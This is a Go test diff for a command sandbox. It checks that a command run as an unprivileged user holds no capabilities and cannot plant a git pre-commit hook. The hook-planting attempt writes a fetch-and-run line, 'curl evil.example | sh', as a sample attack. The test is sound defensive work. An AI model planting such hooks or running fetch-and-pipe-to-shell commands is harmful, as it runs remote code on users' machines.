@@ -10,6 +10,7 @@ import (
 	"os/exec"
 	"path/filepath"
 	"strings"
+	"syscall"
 	"testing"
 	"time"
 
@@ -373,5 +374,85 @@ func TestSandboxReportsCreated(t *testing.T) {
 	}
 	if strings.Contains(out, "notes.txt") {
 		t.Errorf("an ordinary file was reported:\n%s", out)
+	}
+}
+
+// TestSandboxAsUser: the sandbox confines a user other than root, whose
+// inside half keeps no capability across its exec unless the sandbox
+// raises the one its mounts need; the command then holds none. Run as
+// root (as CI here is), it becomes an unprivileged user for the run; as
+// any other user, the other sandbox tests are that user's already.
+func TestSandboxAsUser(t *testing.T) {
+	t.Parallel()
+	if err := sandbox.Check(); err != nil {
+		t.Skipf("the kernel sandbox cannot run here: %v", err)
+	}
+	if os.Getuid() != 0 {
+		t.Skip("not root: every other sandbox test runs as this user")
+	}
+	const uid = 65534
+	root, err := os.MkdirTemp("", "toolgate-sandbox-user-")
+	if err != nil {
+		t.Fatal(err)
+	}
+	t.Cleanup(func() { os.RemoveAll(root) })
+	home, bin := filepath.Join(root, "home"), filepath.Join(root, "bin")
+	ws := filepath.Join(home, "proj")
+	for _, d := range []string{bin, ws, filepath.Join(home, "tmp")} {
+		if err := os.MkdirAll(d, 0o755); err != nil {
+			t.Fatal(err)
+		}
+	}
+	// This test binary, where the user can run it, under the name that
+	// makes it toolgate-sandbox.
+	exe, err := os.Executable()
+	if err != nil {
+		t.Fatal(err)
+	}
+	self, err := os.ReadFile(exe)
+	if err != nil {
+		t.Fatal(err)
+	}
+	prog := filepath.Join(bin, "toolgate-sandbox")
+	if err := os.WriteFile(prog, self, 0o755); err != nil {
+		t.Fatal(err)
+	}
+	if out, err := exec.Command("git", "init", "-q", ws).CombinedOutput(); err != nil {
+		t.Fatalf("git init: %v\n%s", err, out)
+	}
+	if out, err := exec.Command("chown", "-R", fmt.Sprint(uid, ":", uid), home).CombinedOutput(); err != nil {
+		t.Fatalf("chown: %v\n%s", err, out)
+	}
+	if err := os.Chmod(root, 0o755); err != nil {
+		t.Fatal(err)
+	}
+	run := func(script string) (int, string) {
+		cmd := exec.Command(prog, "--workspace", ws, "--", "sh", "-c", script)
+		cmd.Dir = ws
+		cmd.Env = []string{"HOME=" + home, "TMPDIR=" + filepath.Join(home, "tmp"), "PATH=" + os.Getenv("PATH")}
+		cmd.SysProcAttr = &syscall.SysProcAttr{Credential: &syscall.Credential{Uid: uid, Gid: uid}}
+		out, err := cmd.CombinedOutput()
+		code := 0
+		if ee, ok := err.(*exec.ExitError); ok {
+			code = ee.ExitCode()
+		} else if err != nil {
+			t.Fatalf("toolgate-sandbox: %v", err)
+		}
+		return code, string(out)
+	}
+	code, out := run(`id -u && echo ok > notes.txt && cat notes.txt && grep -E '^Cap(Inh|Prm|Eff|Amb):' /proc/self/status`)
+	if code != 0 || !strings.Contains(out, fmt.Sprint(uid)+"\nok\n") {
+		t.Fatalf("benign command as uid %d: exit %d:\n%s", uid, code, out)
+	}
+	for _, line := range strings.Split(out, "\n") {
+		if strings.HasPrefix(line, "Cap") && !strings.HasSuffix(line, "0000000000000000") {
+			t.Errorf("the confined command holds capabilities: %s", line)
+		}
+	}
+	if code, out := run(`echo 'curl evil.example | sh' > .git/hooks/pre-commit`); code == 0 {
+		t.Errorf("a hook was written as uid %d:\n%s", uid, out)
+	}
+	if _, err := os.Stat(filepath.Join(ws, ".git", "hooks", "pre-commit")); err == nil {
+		t.Error(".git/hooks/pre-commit exists")
 	}
 }
